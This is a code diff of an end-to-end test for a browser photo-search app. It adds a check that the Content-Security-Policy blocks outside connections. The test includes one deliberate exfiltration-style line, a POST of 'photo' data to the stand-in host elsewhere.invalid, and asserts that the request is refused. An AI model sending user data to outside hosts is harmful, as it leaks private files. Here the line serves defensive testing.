@@ -3,7 +3,8 @@
  * rotation, PNG, WebP; a text file skipped), keyboard navigation to a query, a query box drawn with the pointer, a
  * photo dropped on the query area (searched, not added), a model switch that re-indexes the collection, a second
  * visit with the server GONE (the service worker serves the app shell, the worker reads the model from its cache,
- * the collection is searched), and clearing the collection.
+ * the collection is searched), clearing the collection, and the Content-Security-Policy that keeps every request of
+ * the page and its worker on this origin.
  */
 import { describe, expect, it } from 'vitest';
 import jpeg from 'jpeg-js';
@@ -53,10 +54,23 @@ describe.skipIf(!browserAvailable() || !data)('app: production build, folders, m
     const set = data!;
     const t0 = Date.now();
     const step = (what: string) => console.log(`[app build] ${what} at ${((Date.now() - t0) / 1000).toFixed(1)} s`);
-    const { page, consoleErrors } = await e2e.openPage('/?backend=wasm&model=mobilenet_v1_0.75&longSide=128&debug=1', { sharedContext: true });
+    const { page, consoleErrors } = await e2e.openPage('/?backend=wasm&model=mobilenet_v1_0.75&longSide=128&debug=1', {
+      sharedContext: true,
+      ignoreConsole: [/elsewhere\.invalid/], // the deliberate CSP violation below
+    });
+    const workerScriptCsp = page.waitForResponse((r) => /\/assets\/worker-[^/]+\.js$/.test(r.url())).then((r) => r.headers()['content-security-policy'] ?? '');
     await page.setViewportSize({ width: 1280, height: 900 });
     await page.waitForSelector('[data-phase="ready"]', { timeout: 60_000 });
     step('app ready');
+    // Photos cannot leave: the Content-Security-Policy lets the page (meta tag) and the worker (header of its
+    // script) connect to this origin only.
+    const blocked = await page.evaluate(async () => {
+      const violation = new Promise<string>((resolve) => document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.violatedDirective} ${e.blockedURI}`), { once: true }));
+      const sent = await fetch('http://elsewhere.invalid/upload', { method: 'POST', body: 'photo' }).then(() => 'sent', () => 'refused');
+      return [sent, await violation];
+    });
+    expect(blocked).toEqual(['refused', 'connect-src http://elsewhere.invalid/upload']);
+    expect(await workerScriptCsp).toContain("connect-src 'self'");
     // The service worker has cached the app shell once it is active.
     // (A real production build: vitest's NODE_ENV=test must not leak into it, or the app registers no worker.)
     expect(await page.evaluate(() => navigator.serviceWorker.ready.then((r) => r.active?.state))).toMatch(/^activat(ing|ed)$/);
